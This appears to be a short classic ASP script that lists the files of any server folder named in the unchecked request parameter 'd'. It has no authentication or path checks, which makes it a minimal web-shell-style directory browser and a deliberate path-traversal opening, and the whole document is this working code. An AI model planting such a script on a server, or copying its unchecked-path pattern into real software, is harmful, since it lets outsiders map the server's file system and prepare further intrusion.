<%
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set dir = fs.GetFolder(Request("d"))
For Each f In dir.Files
  Response.Write f.Name & "<br>"
Next
%>
